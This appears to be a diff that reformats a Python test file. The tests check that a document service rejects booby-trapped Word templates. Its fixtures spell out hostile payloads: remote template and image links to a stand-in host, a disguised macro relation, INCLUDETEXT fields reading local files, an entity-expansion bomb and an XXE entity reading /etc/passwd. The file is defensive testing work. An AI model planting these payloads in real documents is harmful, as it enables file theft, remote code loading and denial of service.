@@ -1,4 +1,4 @@
-"""Template files that are not what they seem: broken, booby-trapped, or pointing outside; none is opened in good faith."""
+"""Template files that are not what they seem: broken, booby-trapped, pointing outside."""
 
 from __future__ import annotations
 
@@ -25,12 +25,8 @@ def with_part(name: str, content: bytes) -> bytes:
 
 def with_relation(relation: str, encoding: str = "utf-8", name: str = RELATIONS) -> bytes:
     members = parts(template())
-    text = (
-        members[name]
-        .decode()
-        .partition("?>")[2]
-        .replace("</Relationships>", relation + "</Relationships>")
-    )
+    text = members[name].decode().partition("?>")[2]
+    text = text.replace("</Relationships>", relation + "</Relationships>")
     members[name] = f'<?xml version="1.0" encoding="{encoding}"?>{text}'.encode(encoding)
     return packed(members)
 
@@ -40,7 +36,10 @@ def with_field(code: str) -> bytes:
 
 
 def run_of(code: str, tag: str = "w:instrText", more: str = "") -> str:
-    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><{tag}{more}>{code}</{tag}></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    return (
+        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><{tag}{more}>{code}</{tag}>'
+        '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
 
 
 def bomb() -> bytes:
@@ -143,46 +142,60 @@ def test_a_template_in_another_encoding_is_read_as_it_says_or_refused(bureau):
         )
 
 
+MULTIPLYING = (
+    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b '
+    b'"&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
+)
+IMAGE = f'Id="rId88" Type="{OFFICE}/image" Target="http://jahat.example/"'
+LINKED = f'<Relationship {IMAGE} TargetMode="External"/>'
 FOREIGN = {
     "a macro": with_part("word/vbaProject.bin", b"\xd0\xcf"),
     "an activeX": with_part("word/activeX/activeX1.xml", b"<a/>"),
     "an embedded object": with_part("word/embeddings/oleObject1.bin", b"x"),
     "an embedded sheet": with_part("word/embeddings/Microsoft_Excel.xlsx", b"x"),
     "a macro under another name": with_relation(
-        '<Relationship Id="rId88" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="theme/theme1.xml"/>'
+        '<Relationship Id="rId88" '
+        'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+        'Target="theme/theme1.xml"/>'
     ),
     "a linked picture": with_relation(
-        f'<Relationship Id="rId88" Type="{OFFICE}/image" Target="http://jahat.example/a.png" TargetMode="External"/>'
+        f'<Relationship Id="rId88" Type="{OFFICE}/image" '
+        'Target="http://jahat.example/a.png" TargetMode="External"/>'
     ),
     "a picture on a share": with_relation(
-        f'<Relationship Id="rId88" Type="{OFFICE}/image" Target="file://///jahat/a.png" TargetMode="External"/>'
+        f'<Relationship Id="rId88" Type="{OFFICE}/image" Target="file://///jahat/a.png" '
+        'TargetMode="External"/>'
     ),
     "an attached template": with_relation(
-        f'<Relationship Id="rId88" Type="{OFFICE}/attachedTemplate" Target="http://jahat.example/a.dotm" TargetMode="External"/>'
+        f'<Relationship Id="rId88" Type="{OFFICE}/attachedTemplate" '
+        'Target="http://jahat.example/a.dotm" TargetMode="External"/>'
     ),
     "a frame": with_relation(
-        f'<Relationship Id="rId88" Type="{OFFICE}/frame" Target="http://jahat.example/" TargetMode="External"/>'
+        f'<Relationship Id="rId88" Type="{OFFICE}/frame" Target="http://jahat.example/" '
+        'TargetMode="External"/>'
     ),
     "another quote": with_relation(
-        f"<Relationship TargetMode='External' Id='rId88' Type='{OFFICE}/image' Target='http://jahat.example/'/>"
+        f"<Relationship TargetMode='External' Id='rId88' Type='{OFFICE}/image' "
+        "Target='http://jahat.example/'/>"
     ),
     "another order and line breaks": with_relation(
-        f'<Relationship\n TargetMode = "External"\n Id="rId88"\n Type="{OFFICE}/image"\n Target="http://jahat.example/"\n/>'
+        f'<Relationship\n TargetMode = "External"\n Id="rId88"\n Type="{OFFICE}/image"\n '
+        'Target="http://jahat.example/"\n/>'
     ),
     "an element with an end tag": with_relation(
-        f'<Relationship Id="rId88" Type="{OFFICE}/image" Target="http://jahat.example/" TargetMode="External"></Relationship>'
+        f'<Relationship {IMAGE} TargetMode="External"></Relationship>'
     ),
-    "External as an entity": with_relation(
-        f'<Relationship Id="rId88" Type="{OFFICE}/image" Target="http://jahat.example/" TargetMode="&#69;xternal"/>'
-    ),
+    "External as an entity": with_relation(f'<Relationship {IMAGE} TargetMode="&#69;xternal"/>'),
     "a greater-than sign before it": with_relation(
-        f'<Relationship Id="rId88" Type="{OFFICE}/image" Target="http://jahat.example/?a>b" TargetMode="External"/>'
+        f'<Relationship Id="rId88" Type="{OFFICE}/image" Target="http://jahat.example/?a>b" '
+        'TargetMode="External"/>'
     ),
     "a target that says hyperlink": with_relation(
-        f"<Relationship Id='rId88' Type='{OFFICE}/image' Target='http://jahat.example/?Type=\"a/hyperlink\"' TargetMode='External'/>"
+        f"<Relationship Id='rId88' Type='{OFFICE}/image' "
+        "Target='http://jahat.example/?Type=\"a/hyperlink\"' TargetMode='External'/>"
     ),
     "relationships in UTF-16": with_relation(
-        f'<Relationship Id="rId88" Type="{OFFICE}/image" Target="http://jahat.example/" TargetMode="External"/>',
+        LINKED,
         "utf-16",
     ),
     "relationships with a prefix": packed(
@@ -194,12 +207,12 @@ FOREIGN = {
             .replace(b"xmlns=", b"xmlns:r=")
             .replace(
                 b"</r:Relationships>",
-                f'<r:Relationship Id="rId88" Type="{OFFICE}/image" Target="http://jahat.example/" TargetMode="External"/></r:Relationships>'.encode(),
+                (LINKED.replace("<", "<r:") + "</r:Relationships>").encode(),
             )
         }
     ),
     "an external part of the package": with_relation(
-        f'<Relationship Id="rId88" Type="{OFFICE}/image" Target="http://jahat.example/" TargetMode="External"/>',
+        LINKED,
         name="_rels/.rels",
     ),
     "INCLUDETEXT": with_field(run_of(' INCLUDETEXT "C:\\\\rahasia.docx" ')),
@@ -211,7 +224,8 @@ FOREIGN = {
     "includetext in small letters": with_field(run_of(' includetext "a.docx" ')),
     "IncludeText": with_field(run_of(' IncludeText "a.docx" ')),
     "a field cut into runs": with_field(
-        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "a.docx"</w:instrText></w:r>'
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>'
+        '<w:r><w:instrText>TEXT "a.docx"</w:instrText></w:r>'
         '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
     ),
     "a field with an entity": with_field(run_of(" &#73;NCLUDETEXT a.docx ")),
@@ -219,7 +233,8 @@ FOREIGN = {
         run_of(" INCLUDETEXT a.docx ", "z:instrText", f' xmlns:z="{MAIN}"')
     ),
     "a field whose end tag has a blank": with_field(
-        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText >INCLUDETEXT a.docx</w:instrText ></w:r>'
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText >INCLUDETEXT '
+        "a.docx</w:instrText ></w:r>"
     ),
     "another document inside": with_field('<w:altChunk r:id="rId1"/>'),
     "another document, prefixed": with_field(f'<z:altChunk xmlns:z="{MAIN}" r:id="rId1"/>'),
@@ -231,12 +246,7 @@ FOREIGN = {
             )
         }
     ),
-    "entities that multiply": packed(
-        parts(template())
-        | {
-            "word/settings.xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'
-        }
-    ),
+    "entities that multiply": with_part("word/settings.xml", MULTIPLYING),
     "a DOCTYPE in UTF-16": packed(
         parts(template())
         | {
@@ -244,7 +254,10 @@ FOREIGN = {
             .decode()
             .replace(
                 "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>",
-                '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+                (
+                    '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x SYSTEM '
+                    '"file:///etc/passwd">]>'
+                ),
             )
             .encode("utf-16")
         }
@@ -277,7 +290,8 @@ def test_the_tricks_of_these_tests_are_seen_by_a_reader_of_xml():
 def test_a_hyperlink_and_a_picture_of_the_templates_own_are_no_harm(bureau):
     bureau.template(
         with_relation(
-            f'<Relationship Id="rId88" Type="{OFFICE}/hyperlink" Target="https://contoh.go.id/" TargetMode="External"/>'
+            f'<Relationship Id="rId88" Type="{OFFICE}/hyperlink" '
+            'Target="https://contoh.go.id/" TargetMode="External"/>'
         )
     )
     assert "Kepala Bappeda" in words(bureau.issue(DELIVERY))
